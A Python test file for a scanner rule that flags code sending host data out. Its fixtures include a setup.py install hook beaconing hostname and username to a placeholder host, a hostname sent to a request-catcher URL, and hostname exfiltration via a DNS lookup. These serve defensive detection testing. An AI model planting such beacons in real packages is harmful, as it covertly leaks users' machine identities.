"""Facts about the machine in a request."""

from lazaretto.detect.rules.python.host_data_sent import RULE


def test_a_beacon_at_installation(scan):
    text = r"""import socket, getpass, requests
from setuptools.command.install import install
class Now(install):
    def run(self):
        requests.get("http://collect.example.test/", params={"h": socket.gethostname(), "u": getpass.getuser()})
"""
    assert scan(RULE, text, "setup.py") == [(5, "HIGH", "HIGH", "install")]


def test_to_a_request_catcher(scan):
    text = r"""import socket, urllib.request
def ping():
    urllib.request.urlopen("https://x.oast.test/?h=" + socket.gethostname())
"""
    assert scan(RULE, text) == [(3, "HIGH", "HIGH", "run")]


def test_in_a_name(scan):
    text = r"""import socket
name = socket.gethostname()
socket.gethostbyname(f"{name}.x.example.test")
"""
    assert scan(RULE, text) == [(3, "HIGH", "HIGH", "import")]


def test_telemetry_is_context(scan):
    text = r"""import platform, requests
def report():
    requests.post("https://telemetry.example.test/", json={"node": platform.node()})
"""
    assert scan(RULE, text) == [(3, "LOW", "MEDIUM", "run")]


def test_near_miss_resolving_the_own_name(scan):
    text = r"""import socket, requests
address = socket.getaddrinfo(socket.gethostname(), None)
"""
    assert scan(RULE, text) == []
